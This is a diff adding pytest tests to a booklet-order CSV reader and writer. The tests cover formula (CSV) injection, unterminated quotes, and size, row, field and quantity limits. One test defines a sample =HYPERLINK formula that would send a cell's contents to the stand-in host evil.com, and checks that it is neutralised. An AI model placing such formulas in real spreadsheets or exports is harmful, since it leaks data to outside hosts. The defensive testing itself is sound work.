@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -297,3 +299,151 @@ def test_filled_in_template_reads_back(tmp_path: Path) -> None:
     form[6] = "SLC-01,large-print,12,Ward 7,Secondary liver cancer"
     path = write(tmp_path, "\r\n".join(form) + "\r\n")
     assert orders.read_orders(path, AVAILABLE) == [Order(7, "SLC-01", "large-print", 12, "Ward 7")]
+
+
+# Hostile input (issue 12): formulas, broken quoting, limits
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
+
+
+def test_formula_in_ordered_by_is_neutralised_in_run_csv(tmp_path: Path) -> None:
+    """A spreadsheet opening run.csv shows the name as text and never runs it (OWASP CSV injection)."""
+    quoted = HYPERLINK.replace('"', '""')
+    text = HEADER + f'SLC-01,standard,10,"{quoted}"\n'
+    lines = orders.group(orders.read_orders(write(tmp_path, text), AVAILABLE))
+    assert lines[0].ordered_by == (HYPERLINK,)
+    run = orders.run_csv(orders.summarise(lines, PAGES))
+    rows = list(csv.reader(io.StringIO(run, newline="")))
+    assert rows[1][-1] == "'" + HYPERLINK
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_written_is_neutralised(start: str) -> None:
+    name = f"{start}1+1"
+    safe = f"'{name}".replace("\r", "\n")  # a line break inside a cell is written as \n
+    run = orders.run_csv(orders.summarise([RunLine("BRC-02", "standard", 1, (name,))], PAGES))
+    assert list(csv.reader(io.StringIO(run, newline="")))[1][-1] == safe
+    form = orders.template_csv({"BRC-02": ("standard",)}, {"BRC-02": name})
+    assert list(csv.reader(io.StringIO(form, newline="")))[1] == ["BRC-02", "standard", "", "", safe]
+
+
+def test_a_carriage_return_inside_a_name_does_not_split_the_row() -> None:
+    for name, written in (("Ward\r7", "Ward\n7"), ("Ward\r\n7", "Ward\n7")):
+        run = orders.run_csv(orders.summarise([RunLine("BRC-02", "standard", 1, (name,))], PAGES))
+        rows = list(csv.reader(io.StringIO(run, newline="")))
+        assert len(rows) == 2
+        assert rows[1][-1] == written
+
+
+def test_harmless_cells_are_written_as_they_are() -> None:
+    run = orders.run_csv(
+        orders.summarise([RunLine("BRC-02", "standard", 1, ("'quoted", "Ann = Bob"))], PAGES)
+    )
+    assert run.splitlines()[1] == "BRC-02,standard,1,8,2,2,'quoted; Ann = Bob"
+
+
+def test_unterminated_quote_is_refused_with_the_line_it_opened_on(tmp_path: Path) -> None:
+    text = HEADER + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,Ann\nSLC-01,large-print,2,Bob\n'
+    found = problems(tmp_path, text)
+    assert len(found) == 1
+    line, message, fix = found[0]
+    assert line == 2
+    assert "quote" in message
+    assert "never closed" in message
+    assert "close the quote" in fix
+
+
+def test_quote_closed_in_the_middle_of_a_later_value_is_refused(tmp_path: Path) -> None:
+    text = HEADER + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,"Smith, J"\nSLC-01,standard,1,Cy\n'
+    assert [(line, message) for line, message, _ in problems(tmp_path, text)] == [
+        (2, 'the quote (") opened on this line closes in the middle of a value on line 3')
+    ]
+
+
+def test_unterminated_quote_in_a_big_file_is_named_as_such(tmp_path: Path) -> None:
+    """The swallowed rows pass the csv module's own field limit (128 KiB): still the quote is named."""
+    text = (
+        HEADER + "SLC-01,standard,1,Ann\n" + 'SLC-01,standard,5,"Ward 7\n' + "SLC-01,standard,1,Ann\n" * 7000
+    )
+    found = problems(tmp_path, text)
+    assert [(line, "never closed" in message) for line, message, _ in found] == [(3, True)]
+
+
+def test_problems_before_a_broken_quote_are_reported_too(tmp_path: Path) -> None:
+    text = HEADER + "SLC-01,standard,lots,Ann\n" + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,Ann\n'
+    assert [line for line, _, _ in problems(tmp_path, text)] == [2, 3]
+
+
+def test_order_file_size_limit(tmp_path: Path) -> None:
+    row = "SLC-01,standard,1,Ann\n"
+    filler = "\n" * (orders.MAX_FILE_BYTES - len(HEADER) - len(row) + 1)
+    found = problems(tmp_path, HEADER + row + filler)
+    assert [(line, message) for line, message, _ in found] == [
+        (None, f"is larger than {orders.MAX_FILE_BYTES // 2**20} MB, the most an order file may be")
+    ]
+    # exactly at the limit is fine
+    assert orders.read_orders(write(tmp_path, HEADER + row + filler[:-1]), AVAILABLE)[0].quantity == 1
+
+
+def test_row_limit(tmp_path: Path) -> None:
+    row = "SLC-01,standard,1,Ann\n"
+    assert (
+        len(orders.read_orders(write(tmp_path, HEADER + row * orders.MAX_ROWS), AVAILABLE)) == orders.MAX_ROWS
+    )
+    found = problems(tmp_path, HEADER + row * (orders.MAX_ROWS + 1))
+    assert [(line, message) for line, message, _ in found] == [
+        (orders.MAX_ROWS + 2, f"has more than {orders.MAX_ROWS:,} rows of orders")
+    ]
+
+
+def test_field_length_limit(tmp_path: Path) -> None:
+    name = "A" * orders.MAX_FIELD_CHARS
+    assert orders.read_orders(write(tmp_path, HEADER + f"SLC-01,standard,1,{name}\n"), AVAILABLE)
+    found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{name}B\n")
+    assert [(line, message) for line, message, _ in found] == [
+        (2, f"the ordered_by value is {orders.MAX_FIELD_CHARS + 1:,} characters long; the most is 1,000")
+    ]
+
+
+@pytest.mark.parametrize("size", [200 * 1024, 2 * 2**20])
+def test_field_over_the_csv_modules_own_limit(tmp_path: Path, size: int) -> None:
+    """A value over 128 KiB used to end in csv.Error and a traceback."""
+    for value in ("A" * size, '"' + "A" * size + '"'):
+        found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{value}\nBRC-02,standard,1,Ann\n")
+        assert [(line, message) for line, message, _ in found] == [
+            (2, f"a value is longer than {orders.MAX_FIELD_CHARS:,} characters")
+        ]
+
+
+@pytest.mark.parametrize(
+    ("quantity", "message"),
+    [
+        ("100001", "quantity '100001' is more than 100,000 copies"),
+        ("1" * 50, f"quantity '{'1' * 20}…' has 50 digits; the most is 100,000 copies"),
+        ("0" * 20 + "5", f"quantity '{'0' * 20}…' has 21 digits; the most is 100,000 copies"),
+        ("-" + "9" * 30, f"quantity '-{'9' * 19}…' has 30 digits; the most is 100,000 copies"),
+    ],
+)
+def test_quantity_limits(tmp_path: Path, quantity: str, message: str) -> None:
+    found = problems(tmp_path, HEADER + f"SLC-01,standard,{quantity},Ann\n")
+    assert [(line, got) for line, got, _ in found] == [(2, message)]
+
+
+def test_quantity_of_5000_digits_is_a_clear_error(tmp_path: Path) -> None:
+    found = problems(tmp_path, HEADER + f"SLC-01,standard,{'9' * 5000},Ann\n")
+    assert [(line, message) for line, message, _ in found] == [
+        (2, "the quantity value is 5,000 characters long; the most is 1,000")
+    ]
+
+
+def test_quantity_at_the_limit(tmp_path: Path) -> None:
+    text = HEADER + f"SLC-01,standard,{orders.MAX_QUANTITY},Ann\nBRC-02,standard,000000007,Bob\n"
+    assert [o.quantity for o in orders.read_orders(write(tmp_path, text), AVAILABLE)] == [
+        orders.MAX_QUANTITY,
+        7,
+    ]
+
+
+def test_long_values_are_shortened_in_messages(tmp_path: Path) -> None:
+    found = problems(tmp_path, HEADER + f"{'X' * 900},standard,1,Ann\n")
+    assert found[0][1] == f"unknown booklet code '{'X' * 20}…'"
